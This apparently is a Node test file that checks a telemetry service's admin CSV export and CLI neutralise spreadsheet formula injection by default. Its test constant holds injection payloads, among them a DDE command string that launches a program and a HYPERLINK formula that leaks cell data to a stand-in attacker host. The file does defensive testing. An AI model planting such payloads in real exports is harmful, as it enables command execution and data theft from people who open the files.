import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { runCli } from './cli-runner.js';
import { form, post, startTestServer, type TestServer } from './test-server.js';

/** Issue 16 item 10: a client's report must not become a formula in the spreadsheet an operator opens an export in. */
let server: TestServer;

const ATTACK = {
  text_data: "=cmd|' /C calc'!A0",
  user_identifier: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  license_key: '+1+1',
  activation_identifier: '-2+3',
  product_version: '@SUM(1,1)',
};

before(async () => {
  server = await startTestServer();
  const fields = {
    api_key: server.seed.keys.full, product_id: String(server.seed.productA), data_type: 'text', data_group: 'csv-injection', ...ATTACK,
  };
  const answer = await post(`${server.url}/api/v1/send-telemetry-data`, form(fields), 'application/x-www-form-urlencoded');
  assert.equal(answer.status, 200, answer.text);
});
after(() => server.close());

async function adminCsv(query: string): Promise<{ status: number; text: string }> {
  const res = await fetch(`${server.url}/admin/api/export?format=csv&data_group=csv-injection${query}`, { headers: { authorization: `Bearer ${server.adminToken}` } });
  return { status: res.status, text: await res.text() };
}

function onlyRow(csv: string): Record<string, string> {
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  assert.equal(rows.length, 1, csv);
  return rows[0]!;
}

/** Every attacking cell starts with `'` and is quoted in the CSV text itself. */
function assertNeutralised(csv: string): void {
  const row = onlyRow(csv);
  for (const [name, value] of Object.entries(ATTACK)) {
    assert.equal(row[name], `'${value}`, name);
    assert.ok(csv.includes(`"'${value.replaceAll('"', '""')}"`), `${name} is quoted`);
  }
  assert.equal(row['data'], `'${ATTACK.text_data}`);
}

function assertRaw(csv: string): void {
  const row = onlyRow(csv);
  for (const [name, value] of Object.entries(ATTACK)) assert.equal(row[name], value, name);
}

describe('CSV export of formula cells', () => {
  it('GET /admin/api/export neutralises them by default', async () => {
    const { status, text } = await adminCsv('');
    assert.equal(status, 200);
    assertNeutralised(text);
  });

  it('GET /admin/api/export writes them as stored with raw_csv=1 (or true), and refuses another raw_csv value', async () => {
    assertRaw((await adminCsv('&raw_csv=1')).text);
    assertRaw((await adminCsv('&raw_csv=true')).text);
    assertNeutralised((await adminCsv('&raw_csv=0')).text);
    const bad = await adminCsv('&raw_csv=yes');
    assert.equal(bad.status, 400);
    assert.deepEqual((JSON.parse(bad.text) as { errors: unknown }).errors, { raw_csv: ['The raw_csv field must be 1, 0, true or false.'] });
  });

  it('tally export --format csv neutralises them, and --raw-csv writes them as stored', async () => {
    const safe = await runCli(['export', '--format', 'csv', '--data-group', 'csv-injection', ...server.cliStoreArgs]);
    assert.equal(safe.code, 0, safe.stderr);
    assertNeutralised(safe.stdout);
    const raw = await runCli(['export', '--format', 'csv', '--raw-csv', '--data-group', 'csv-injection', ...server.cliStoreArgs]);
    assert.equal(raw.code, 0, raw.stderr);
    assertRaw(raw.stdout);
  });
});
